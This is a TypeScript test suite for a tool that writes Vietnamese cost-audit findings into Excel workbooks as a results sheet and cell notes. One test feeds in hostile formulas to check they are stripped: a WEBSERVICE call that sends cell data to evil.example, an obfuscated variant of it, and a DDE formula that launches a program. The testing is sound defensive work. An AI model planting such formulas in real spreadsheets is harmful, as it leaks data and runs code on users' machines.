/** Findings written into files of every origin: what was there stays, and other programs still open the copy. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { inflateRawSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Finding } from "../../kernel/finding.ts";
import { builtinLawBook } from "../../law/book.ts";
import { buildFlatWorkbook } from "../build.ts";
import { quangNinh2018 } from "../demo.ts";
import { annotateXlsx } from "./annotate.ts";
import { encodeText } from "./bytes.ts";
import { makeWorkbook, makeZip, workbookParts } from "./fixture.ts";
import { folderOf, openWorkbook, readRelations, readXlsx, relationsPath, resolvePath } from "./read.ts";
import { escapeText } from "./xml-edit.ts";
import { writeXlsx } from "./write.ts";
import { openZip, readPart, type Zip } from "./zip.ts";

const SOFFICE = "/usr/bin/soffice";
const present = existsSync(SOFFICE);

function finding(sheet: string, cell: string | undefined, extra: Partial<Finding> = {}): Finding {
  return {
    rule: "KC-DT-009",
    severity: "error",
    stage: "line",
    where: cell === undefined ? { sheet } : { sheet, cell },
    message: "Đơn giá <cao> & “lạ”",
    found: "=1+1",
    expected: "2",
    differenceDong: -1_500_000,
    basis: "Điều 4 Thông tư",
    remedy: "Sửa ô.",
    ...extra,
  };
}

function zipOf(bytes: Uint8Array): Zip {
  const zip = openZip(bytes);
  if (!zip.ok) throw new Error(zip.error.en);
  return zip.value;
}

function textOf(bytes: Uint8Array, name: string): string {
  const part = readPart(zipOf(bytes), name);
  if (!part.ok || part.value === null) throw new Error(`no part ${name}`);
  return new TextDecoder().decode(part.value);
}

function annotated(bytes: Uint8Array, findings: readonly Finding[]): Uint8Array {
  const before = bytes.slice();
  const result = annotateXlsx(bytes, findings);
  if (!result.ok) throw new Error(result.error.en);
  expect(bytes).toEqual(before);
  return result.value;
}

/** Names of parts whose bytes differ, were added or are gone. */
function changedParts(before: Uint8Array, after: Uint8Array): string[] {
  const [a, b] = [zipOf(before), zipOf(after)];
  const names = new Set([...a.entries.keys(), ...b.entries.keys()]);
  return [...names].filter((name) => a.entries.get(name)?.crc !== b.entries.get(name)?.crc).sort();
}

/** Path of a sheet's part, or of the part it is related to by this type. */
function pathOf(
  bytes: Uint8Array,
  sheet: string,
  type: "comments" | "table" | "vmlDrawing" | null = null,
): string {
  const book = openWorkbook(bytes);
  if (!book.ok) throw new Error(book.error.en);
  const { part, relations, folder } = book.value;
  const id = part.sheets.find(({ name }) => name === sheet)?.relation ?? "";
  const path = resolvePath(folder, relations.get(id)?.target ?? "");
  if (type === null) return path;
  const own = readRelations(encodeText(textOf(bytes, relationsPath(path))));
  const found = [...own.values()].find((relation) => relation.type === type);
  return resolvePath(folderOf(path), found?.target ?? "");
}

async function sheetCells(bytes: Uint8Array, name: string) {
  const read = await readXlsx(bytes);
  if (!read.ok) throw new Error(read.error.en);
  const sheet = read.value.sheets.find((candidate) => candidate.name === name);
  if (sheet === undefined) throw new Error(`no sheet ${name}`);
  return sheet.cells;
}

const template = () => writeXlsx(buildFlatWorkbook(quangNinh2018(), builtinLawBook()));

describe("a workbook of the template", () => {
  const findings = [
    finding("KC_DuToan", "E5"),
    finding("KC_DuToan", "E5", { severity: "warning", rule: "KC-DT-010" }),
    finding("KC_DeAn", "A4", { message: "Ô đã có ghi chú" }),
    finding("KC_DeAn", undefined, { where: { sheet: "KC_DeAn", row: 7 } }),
    finding("KC_ThongTin", "B4"),
    finding("KC_KhongCo", "A1"),
    finding("KC_ThongTin", undefined),
  ];

  it("a waived finding has a word of its own, and says why nothing is to be done", async () => {
    const waived = {
      id: "mt_1",
      reason: "Máy do đối tác tặng",
      by: "An",
      confirmedBy: "Bình",
      on: "2026-11-30",
    };
    const copy = annotated(await template(), [finding("KC_DuToan", "E5", { waived })]);
    const cells = await sheetCells(copy, "KC_KetQua");
    expect(cells["A5"]?.value).toBe("Được miễn");
    const why = "Được miễn cho hồ sơ này: Máy do đối tác tặng (An, Bình, 30/11/2026).";
    expect(cells["I5"]?.value).toBe(why);
    const note = textOf(copy, pathOf(copy, "KC_DuToan", "comments"));
    expect(note).toContain("ĐƯỢC MIỄN KC-DT-009");
    expect(note).toContain(why);
  });

  it("lists every finding in KC_KetQua, under the headers that were there, texts as texts", async () => {
    const copy = annotated(await template(), findings);
    const cells = await sheetCells(copy, "KC_KetQua");
    expect(cells["A4"]?.value).toBe("Mức");
    expect(["A5", "B5", "C5", "D5", "E5", "G5"].map((a) => cells[a]?.value)).toEqual([
      "Lỗi",
      "KC-DT-009",
      "KC_DuToan!E5",
      "Đơn giá <cao> & “lạ”",
      "=1+1",
      -1_500_000,
    ]);
    expect(cells["E5"]?.formula).toBeUndefined();
    expect(["C8", "C10", "C11"].map((a) => cells[a]?.value)).toEqual([
      "KC_DeAn!7:7",
      "KC_KhongCo!A1",
      "KC_ThongTin",
    ]);
    expect(textOf(copy, pathOf(copy, "KC_KetQua", "table"))).toContain('ref="A4:I11"');
  });

  it("adds notes beside those that were there, and a second text to a cell that had one", async () => {
    const copy = annotated(await template(), findings);
    const deAn = textOf(copy, pathOf(copy, "KC_DeAn", "comments"));
    expect(deAn).toContain("Duy nhất trong sổ");
    expect(deAn).toMatch(/ref="A4"[^]*?Duy nhất trong sổ[^]*?Ô đã có ghi chú[^]*?<\/comment>/);
    expect([...deAn.matchAll(/ref="A4"/g)]).toHaveLength(1);
    expect(deAn).toContain('ref="A7"');
    const costs = textOf(copy, pathOf(copy, "KC_DuToan", "comments"));
    expect(costs).toContain("LỖI KC-DT-009: Đơn giá &lt;cao&gt; &amp; “lạ”");
    expect(costs).toMatch(/ref="E5"[^]*KC-DT-009[^]*CẢNH BÁO KC-DT-010[^]*<\/comment>/);
    expect(textOf(copy, pathOf(copy, "KC_ThongTin"))).toMatch(
      /<\/headerFooter><legacyDrawing [^>]*\/><\/worksheet>$/,
    );
    expect(textOf(copy, "[Content_Types].xml")).toContain("/xl/commentsKc1.xml");
  });

  it("leaves every other part as it was, and figures and formulas of the sheets too", async () => {
    const original = await template();
    const copy = annotated(original, findings);
    const expected = [
      "[content_types].xml",
      relationsPath(pathOf(copy, "KC_ThongTin")),
      pathOf(copy, "KC_ThongTin"),
      pathOf(copy, "KC_KetQua"),
      pathOf(copy, "KC_KetQua", "table"),
    ];
    for (const sheet of ["KC_ThongTin", "KC_DeAn", "KC_DuToan"])
      expected.push(pathOf(copy, sheet, "comments"), pathOf(copy, sheet, "vmlDrawing"));
    expect(changedParts(original, copy)).toEqual(expected.map((name) => name.toLowerCase()).sort());
    for (const name of ["KC_ThongTin", "KC_DeAn", "KC_DuToan"])
      expect(await sheetCells(copy, name)).toEqual(await sheetCells(original, name));
  });

  it("annotating a copy again replaces the list and our notes, and nobody else's", async () => {
    const original = await template();
    const once = annotated(original, findings);
    const twice = annotated(once, findings.slice(0, 1));
    const cells = await sheetCells(twice, "KC_KetQua");
    const notes = (sheet: string) => textOf(twice, pathOf(twice, sheet, "comments"));
    expect(notes("KC_ThongTin")).not.toContain("KC-DT-009");
    expect(notes("KC_DeAn")).not.toContain("KC-DT-009");
    expect(notes("KC_DeAn").match(/<comment /g)).toEqual(
      textOf(original, pathOf(original, "KC_DeAn", "comments")).match(/<comment /g),
    );
    expect(notes("KC_DuToan").match(/KC-DT-009/g)).toHaveLength(1);
    expect(textOf(twice, pathOf(twice, "KC_DeAn", "vmlDrawing")).match(/<v:shape /g)).toEqual(
      textOf(original, pathOf(original, "KC_DeAn", "vmlDrawing")).match(/<v:shape /g),
    );
    expect(cells["B5"]?.value).toBe("KC-DT-009");
    expect(cells["B6"]).toBeUndefined();
  });

  it("no findings: the list is empty and no note is added", async () => {
    const original = await template();
    const copy = annotated(original, []);
    expect(changedParts(original, copy)).toEqual([pathOf(original, "KC_KetQua")]);
    expect((await sheetCells(copy, "KC_KetQua"))["A5"]).toBeUndefined();
  });
});

describe("somebody else's file", () => {
  const TYPES = encodeText(
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
  );
  const unknown = {
    name: "xl/media/anh.bin",
    data: Uint8Array.from({ length: 500 }, (_, i) => (i * 7) % 256),
  };
  const foreign = () =>
    makeWorkbook({
      rows: '<row r="1"><c r="A1"><v>7</v></c></row>',
      styles: '<cellXfs count="1"><xf numFmtId="0"/></cellXfs>',
      extra: [{ name: "[Content_Types].xml", data: TYPES }, unknown],
    });

  it("gets the sheet, and a note in a prefixed document; what is unknown stays byte for byte", async () => {
    const copy = annotated(foreign(), [finding("Trang & một", "A1")]);
    expect((await sheetCells(copy, "KC_KetQua"))["C5"]?.value).toBe("Trang & một!A1");
    expect((await sheetCells(copy, "Trang & một"))["A1"]?.value).toBe(7);
    expect(textOf(copy, "xl/workbook.xml")).toMatch(/<x:sheet [^>]*name="KC_KetQua" sheetId="2"/);
    expect(textOf(copy, "xl/commentsKc1.xml")).toContain('ref="A1"');
    const kept = readPart(zipOf(copy), unknown.name);
    expect(kept.ok && kept.value).toEqual(unknown.data);
  });

  it("brings no formula that starts a program or reaches out: values stay, honest formulas too", async () => {
    const rows = `<row r="1"><c r="A1"><f>WEBSERVICE(&quot;http://evil.example/?&quot;&amp;B1)</f><v>7</v></c>
      <c r="B1" t="str"><f><![CDATA[cmd|'/c calc'!A0]]></f><v>x</v></c>
      <c r="C1"><f t="shared" ref="C1:C2" si="3">[1]Gia!B2</f><v>5</v></c><c r="D1"><f>SUM(A1:C1)</f><v>12</v></c><c r="E1"><f>WEB<!-- -->SERVI<?x?>CE("http://evil.example")</f><v>8</v></c></row>
      <row r="2"><c r="C2"><f t="shared" si="3"/><v>6</v></c><c r="D2"><f t="shared" ref="D2:D3" si="4">A2+1</f><v>1</v></c></row>
      <row r="3"><c r="D3"><f t="shared" si="4"/><v>2</v></c></row>`;
    const styles = '<cellXfs count="1"><xf numFmtId="0"/></cellXfs>';
    const extra = [{ name: "[Content_Types].xml", data: TYPES }];
    const copy = annotated(makeWorkbook({ rows, styles, extra }), []);
    const cells = await sheetCells(copy, "Trang & một");
    expect(cells).toEqual({
      A1: { value: 7 },
      B1: { value: "x" },
      C1: { value: 5 },
      D1: { value: 12, formula: "=SUM(A1:C1)" },
      E1: { value: 8 },
      C2: { value: 6 },
      D2: { value: 1, formula: "=A2+1" },
      D3: { value: 2, formula: "=A3+1" },
    });
    expect(textOf(copy, pathOf(copy, "Trang & một"))).not.toMatch(/evil|calc'/);
  });

  it("takes no longer for marks that never end", () => {
    const marks = "<f><f a='<f><!--<![CDATA[<?".repeat(20_000);
    const rows = `<row r="1"><c r="A1"><v>1</v></c></row>${marks}`;
    const started = performance.now();
    annotateXlsx(makeWorkbook({ rows, extra: [{ name: "[Content_Types].xml", data: TYPES }] }), []);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it("drops the order of calculation when formulas of an old list go", async () => {
    const parts = workbookParts({ rows: "" }).map((part) =>
      part.name === "xl/workbook.xml"
        ? {
            ...part,
            data: encodeText(
              '<workbook xmlns:r="r"><sheets><sheet name="KC_KetQua" sheetId="1" r:id="s1"/></sheets></workbook>',
            ),
          }
        : part.name === "xl/worksheets/sheet1.xml"
          ? {
              ...part,
              data: encodeText(
                '<worksheet><dimension ref="A1:A9"/><sheetData><row r="5"><c r="A5"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>',
              ),
            }
          : part.name === "xl/_rels/workbook.xml.rels"
            ? {
                ...part,
                data: encodeText(
                  '<Relationships><Relationship Id="s1" Type="o/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="c" Type="o/relationships/calcChain" Target="calcChain.xml"/></Relationships>',
                ),
              }
            : part,
    );
    const types = encodeText('<Types><Override PartName="/xl/calcChain.xml" ContentType="c"/></Types>');
    const bytes = makeZip([
      ...parts,
      { name: "xl/calcChain.xml", data: encodeText('<calcChain><c r="A5" i="1"/></calcChain>') },
      { name: "[Content_Types].xml", data: types },
    ]);
    const copy = annotated(bytes, [finding("KC_KetQua", undefined)]);
    expect([...zipOf(copy).entries.keys()]).not.toContain("xl/calcchain.xml");
    expect(textOf(copy, "xl/_rels/workbook.xml.rels")).not.toContain("calcChain");
    expect(textOf(copy, "[Content_Types].xml")).not.toContain("calcChain");
    expect((await sheetCells(copy, "KC_KetQua"))["B5"]?.value).toBe("KC-DT-009");
    expect((await sheetCells(copy, "KC_KetQua"))["A4"]?.value).toBe("Mức");
  });

  it("damage is a sentence, never a throw", () => {
    expect(annotateXlsx(encodeText("không phải tệp"), []).ok).toBe(false);
    const bytes = foreign();
    fc.assert(
      fc.property(fc.nat(bytes.length - 1), fc.nat(255), (at, value) => {
        const broken = bytes.slice();
        broken[at] = value;
        const result = annotateXlsx(broken, [finding("Trang & một", "A1")]);
        if (!result.ok) expect(result.error.vi).not.toBe("");
      }),
      { numRuns: 100 },
    );
  });
});

/** Lone surrogates and the two characters XML forbids come back as U+FFFD or themselves. */
function wellFormed(text: string): string {
  return new TextDecoder().decode(new TextEncoder().encode(text));
}

it("finds its way in a package whose workbook lies in the root", async () => {
  const rooted = workbookParts({ rows: '<row r="1"><c r="A1"><v>1</v></c></row>' }).map((part) => ({
    ...part,
    name: part.name.replace(/^xl\//, ""),
    data: encodeText(new TextDecoder().decode(part.data).replaceAll("/xl/workbook.xml", "/workbook.xml")),
  }));
  const types = encodeText('<Types><Default Extension="xml" ContentType="application/xml"/></Types>');
  const copy = annotated(makeZip([{ name: "[Content_Types].xml", data: types }, ...rooted]), [
    finding("Trang & một", "A1"),
  ]);
  expect([...zipOf(copy).entries.keys()].filter((name) => name.startsWith("/"))).toEqual([]);
  expect(Object.keys(await sheetCells(copy, "KC_KetQua"))).toContain("A5");
});

it("any text goes into XML and comes back", async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.string({ unit: "binary", maxLength: 30 }), { minLength: 1, maxLength: 5 }),
      async (texts) => {
        const bytes = await template();
        const copy = annotated(
          bytes,
          texts.map((found) => finding("KC_DeAn", "A5", { found, message: "m" })),
        );
        const cells = await sheetCells(copy, "KC_KetQua");
        texts.forEach((text, i) => {
          const shown = cells[`E${5 + i}`]?.value ?? "";
          // Line ends are one character in XML.
          expect(shown).toBe(wellFormed(text).replace(/\r\n?/g, "\n"));
        });
      },
    ),
    { numRuns: 15 },
  );
  expect(escapeText("a\u0007")).toBe("a_x0007_");
}, 30_000);

describe.skipIf(!present)("LibreOffice", () => {
  it("opens the copy of our file and of its own, and saves list and notes", async () => {
    const folder = mkdtempSync(join(tmpdir(), "kc-an-"));
    const convert = (to: string, file: string, into: string) =>
      execFileSync(
        SOFFICE,
        [
          "--headless",
          `-env:UserInstallation=file://${folder}/profile`,
          "--convert-to",
          to,
          "--outdir",
          into,
          file,
        ],
        { stdio: "ignore", timeout: 120_000 },
      );
    try {
      const findings = [finding("KC_DuToan", "E5"), finding("KC_ThongTin", "B4"), finding("KC_DeAn", "A4")];
      const ours = join(folder, "goc.xlsx");
      writeFileSync(ours, await template());
      convert("xlsx:Calc MS Excel 2007 XML", ours, join(folder, "lo"));
      const theirs = readFileSync(join(folder, "lo", "goc.xlsx"));
      writeFileSync(join(folder, "a.xlsx"), annotated(readFileSync(ours), findings));
      writeFileSync(join(folder, "b.xlsx"), annotated(theirs, findings));
      for (const name of ["a", "b"]) {
        convert("fods", join(folder, `${name}.xlsx`), folder);
        const text = readFileSync(join(folder, `${name}.fods`), "utf8");
        expect(text.split("KC-DT-009: Đơn giá").length, name).toBeGreaterThanOrEqual(4);
        expect(text, name).toContain("Duy nhất trong sổ");
        expect(text, name).toContain("KC_DuToan!E5");
        expect(text.match(/<office:annotation /g)?.length ?? 0, name).toBeGreaterThan(10);
      }
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  }, 200_000);
});

it("parts not edited keep their compressed bytes", async () => {
  const original = await template();
  const copy = annotated(original, [finding("KC_DeAn", "B5")]);
  const entry = zipOf(copy).entries.get("xl/styles.xml");
  const before = zipOf(original).entries.get("xl/styles.xml");
  expect(entry?.compressedBytes).toBe(before?.compressedBytes);
  const at = (entry?.headerAt ?? 0) + 30 + "xl/styles.xml".length;
  const data = copy.subarray(at, at + (entry?.compressedBytes ?? 0));
  expect(inflateRawSync(data).length).toBe(entry?.bytes);
});
